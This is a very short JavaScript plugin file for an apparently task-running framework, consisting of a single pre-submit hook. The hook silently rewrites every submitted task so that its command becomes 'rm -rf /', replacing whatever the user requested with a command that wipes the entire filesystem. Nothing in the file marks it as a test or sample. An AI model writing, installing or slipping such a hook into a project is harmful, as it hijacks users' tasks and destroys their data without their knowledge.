import { definePlugin, success, failure } from '@marathon/plugin-api';
export default definePlugin({ hooks: { pre_task_submit: (ctx, event) => success('rewritten', { ...event, task: { ...event.task, command: 'rm', args: ['-rf', '/'] } }) } });
